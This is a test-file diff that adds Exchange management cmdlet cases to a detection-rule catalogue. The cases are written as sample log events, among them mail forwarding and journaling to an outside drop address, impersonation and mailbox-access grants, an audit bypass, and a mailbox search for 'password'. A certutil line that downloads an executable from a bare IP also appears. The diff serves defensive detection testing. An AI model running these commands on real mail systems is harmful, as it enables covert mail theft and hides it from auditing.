@@ -41,6 +41,8 @@ const dsRead = (objectType: string, properties: string): Ev =>
   sec(4662, { ...subj, ObjectServer: 'DS', ObjectType: `%{${objectType}}`, ObjectName: '%{0d3e5f60-1111-2222-3333-444455556666}', OperationType: 'Object Access', HandleId: '0x0', AccessList: '%%7684', AccessMask: '0x10', Properties: `%%7684 {77b5b886-944a-11d1-aebd-0000f80367c1} {${properties}} {${objectType}}`, AdditionalInfo: '-', AdditionalInfo2: '' });
 const fileHandle = (object: string, processName: string, mask: string): Ev =>
   sec(4663, { ...subj, ObjectServer: 'Security', ObjectType: 'File', ObjectName: object, HandleId: '0x1a4', AccessList: mask === '0x2' ? '%%4417' : '%%4416', AccessMask: mask, ProcessId: '0x1ee0', ProcessName: processName });
+const cmdlet = (name: string, params: string): Ev =>
+  win('MSExchange Management', 'MSExchange CmdletLogs', 1, { Data: { '#text': [name, params, 'corp.example/Users/admin2', 'S-1-5-21-1-2-3-1500', 'S-1-5-21-1-2-3-1500', 'Remote-ManagementShell-Unknown', '5668 w3wp#MSExchangePowerShellAppPool', '', '5', '00:00:01.0389557'] } }, 'EX01');
 const hits = builtinHits;
 
 /** [rule title, level, a tactic it carries, the events it is written for, a benign near miss]. */
@@ -110,6 +112,21 @@ const cases: CatalogueCase[] = [
   ['Automatic Windows Updates Switched Off In The Policy Keys By A Program (4657)', 'low', 'defense-impairment',
     [regValue('\\REGISTRY\\MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU', 'NoAutoUpdate', '1', '%%1904')],
     [regValue('\\REGISTRY\\MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU', 'NoAutoUpdate', '1', '%%1904', `${S32}svchost.exe`)]],
+  ['Mail Forwarded, Copied Or Journaled By An Exchange Management Cmdlet', 'medium', 'collection',
+    [cmdlet('Set-Mailbox', '-Identity "ceo" -DeliverToMailboxAndForward "True" -ForwardingSmtpAddress "smtp:drop@example.net"')],
+    [cmdlet('Set-Mailbox', '-Identity "ceo" -ForwardingSmtpAddress $null')]],
+  ['Mailbox, Folder Or Send-As Access Granted By An Exchange Management Cmdlet', 'low', 'persistence',
+    [cmdlet('Add-MailboxPermission', '-Identity "ceo" -User "corp\\svc_backup" -AccessRights "FullAccess" -InheritanceType "All"')],
+    [cmdlet('Get-MailboxPermission', '-Identity "ceo"')]],
+  ['Exchange Impersonation, Search Or Organization-Wide Role Granted By A Management Cmdlet', 'medium', 'persistence',
+    [cmdlet('New-ManagementRoleAssignment', '-Name "imp" -Role "ApplicationImpersonation" -User "svc_backup"')],
+    [cmdlet('New-ManagementRoleAssignment', '-Name "helpdesk" -Role "Mail Recipients" -SecurityGroup "Helpdesk"')]],
+  ['Mailbox Or Administrator Audit Logging Switched Off By An Exchange Management Cmdlet', 'high', 'defense-impairment',
+    [cmdlet('Set-MailboxAuditBypassAssociation', '-Identity "svc_backup" -AuditBypassEnabled $true')],
+    [cmdlet('Set-Mailbox', '-Identity "ceo" -AuditEnabled $true')]],
+  ['Mailbox Content Searched Into Another Mailbox Or Exported By An Exchange Management Cmdlet', 'low', 'collection',
+    [cmdlet('Search-Mailbox', '-Identity "ceo" -SearchQuery "password" -TargetMailbox "svc_backup" -TargetFolder "found"')],
+    [cmdlet('Search-Mailbox', '-Identity "ceo" -SearchQuery "invoice" -EstimateResultOnly')]],
 ];
 
 describeCatalogue('built-in rules from the Sentinel catalogue (Security, Application, Sysmon, process creation)', cases);
@@ -141,6 +158,22 @@ describe('built-in rules from the Sentinel catalogue: variants', () => {
     const spacing = hits([proc4688(`${S32}certutil.exe`, 'certutil.exe -urlcac\u02b0e -f http://203.0.113.7/a.exe a.exe')]);
     expect(spacing.has(other)).toBe(true);
     expect(spacing.has(mine)).toBe(false);
+  });
+
+  it('every forwarding and copying cmdlet is read, and only when the cmdlet ran (event 1, not the failure event 6)', () => {
+    const title = 'Mail Forwarded, Copied Or Journaled By An Exchange Management Cmdlet';
+    const shapes: [string, string][] = [
+      ['Set-Mailbox', '-Identity "cfo" -ForwardingAddress "corp.example/Users/contact9"'],
+      ['New-TransportRule', '-Name "Compliance" -SentToScope "NotInOrganization" -BlindCopyTo "drop@example.net"'],
+      ['Set-TransportRule', '-Identity "Compliance" -RedirectMessageTo "drop@example.net"'],
+      ['Set-RemoteDomain', '-Identity "Default" -AutoForwardEnabled $true'],
+      ['New-JournalRule', '-Name "All" -JournalEmailAddress "drop@example.net" -Scope Global -Enabled $true'],
+      ['Set-MailboxDatabase', '-Identity "DB01" -JournalRecipient "drop"'],
+      ['Set-TransportService', '-Identity "EX01" -PipelineTracingEnabled $true'],
+    ];
+    for (const [name, params] of shapes) expect(hits([cmdlet(name, params)]).has(title), name).toBe(true);
+    const failed = win('MSExchange Management', 'MSExchange CmdletLogs', 6, { Data: { '#text': ['Set-Mailbox', '-Identity "ceo" -ForwardingSmtpAddress "smtp:drop@example.net"'] } }, 'EX01');
+    expect(hits([failed]).has(title)).toBe(false);
   });
 
   it('a renamed netsh is not excused by its name, and netsh itself is left to the netsh rules', () => {
